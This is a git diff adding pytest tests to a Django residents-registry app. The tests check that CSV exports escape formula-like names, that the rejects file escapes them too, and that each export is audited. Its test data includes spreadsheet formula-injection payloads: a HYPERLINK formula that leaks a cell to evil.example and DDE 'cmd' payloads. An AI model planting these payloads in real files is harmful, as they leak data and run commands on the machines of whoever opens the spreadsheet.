@@ -8,9 +8,11 @@ from django.core.management import call_command
 from django.core.management.base import CommandError
 from python_calamine import CalamineWorkbook
 
+from congdanso.core.models import AuditAction, AuditEvent
 from congdanso.people.exporters import EXPORT_COLUMNS
 from congdanso.people.models import Resident
-from congdanso.people.tests.files import HEADER, write_xlsx
+from congdanso.people.tests.factories import ResidentFactory
+from congdanso.people.tests.files import HEADER, write_csv, write_xlsx
 from congdanso.people.tests.test_import import ROWS
 from congdanso.places.models import Place
 
@@ -102,3 +104,55 @@ def test_xlsx_export_keeps_cccd_as_text_and_reimports_unchanged(
     assert "066190012345" in [row[5] for row in sheet]
     again = json.loads(_run("import-residents", str(out), "--commune", ea_yong.code, "--json"))
     assert again["unchanged"] == Resident.objects.filter(commune=ea_yong).count() == 4
+
+
+FORMULA_NAMES = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"Nguyễn Văn A")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
+
+
+def test_formula_like_names_are_exported_as_text_and_reimported_unchanged(
+    tmp_path: Path, ea_yong: Place
+) -> None:
+    village = Place.objects.get(parent=ea_yong, name="Thôn Cao Bằng")
+    for name in FORMULA_NAMES:
+        ResidentFactory(village=village, full_name=name)
+    out = tmp_path / "export.csv"
+    _run("export-residents", "--commune", ea_yong.code, "--out", str(out))
+
+    table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    # a spreadsheet shows a cell that starts with an apostrophe as text, never a formula
+    assert sorted(r["full_name"] for r in table) == sorted("'" + n for n in FORMULA_NAMES)
+    again = json.loads(_run("import-residents", str(out), "--commune", ea_yong.code, "--json"))
+    assert (again["rows"], again["unchanged"]) == (4, 4)
+    stored = set(Resident.objects.filter(commune=ea_yong).values_list("full_name", flat=True))
+    assert stored == set(FORMULA_NAMES)
+
+
+def test_a_rejected_formula_cell_is_written_as_text_in_the_rejects_file(
+    tmp_path: Path, ea_yong: Place
+) -> None:
+    rows = [HEADER, [1, "=1+1", "01/01/1990", "Nam", "", "", "Thôn Xa Lạ"]]
+    rejects = tmp_path / "rejects.csv"
+    path = write_csv(tmp_path / "ds.csv", rows)
+    _run("import-residents", str(path), "--commune", ea_yong.code, "--rejects", str(rejects))
+
+    table = list(csv.reader(io.StringIO(rejects.read_text(encoding="utf-8-sig"))))
+    assert table[1][2] == "'=1+1"
+
+
+def test_export_is_audited_with_the_commune_and_the_count(tmp_path: Path, ea_yong: Place) -> None:
+    village = Place.objects.get(parent=ea_yong, name="Thôn Cao Bằng")
+    ResidentFactory(village=village, cccd="066190012345")
+    _run("export-residents", "--commune", ea_yong.code, "--out", str(tmp_path / "x.csv"))
+    _run("export-residents", "--commune", ea_yong.code, "--out", str(tmp_path / "x.xlsx"))
+
+    events = AuditEvent.objects.filter(action=AuditAction.EXPORT, commune_id=ea_yong.pk)
+    assert [(e.via, e.changes["format"], e.changes["residents"]) for e in events] == [
+        ("command", "xlsx", 1),
+        ("command", "csv", 1),
+    ]
+    assert events[0].changes["fields"] == ["cccd", "phone"]
